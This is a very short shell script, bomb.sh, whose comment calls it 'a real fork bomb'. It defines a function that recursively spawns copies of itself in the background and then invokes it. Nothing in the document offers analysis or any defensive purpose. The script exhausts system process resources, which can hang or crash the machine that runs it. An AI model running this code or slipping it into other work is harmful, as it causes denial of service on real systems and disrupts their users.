#!/bin/sh
# bomb.sh: a real fork bomb
b() { b | b & }
b
sleep 5
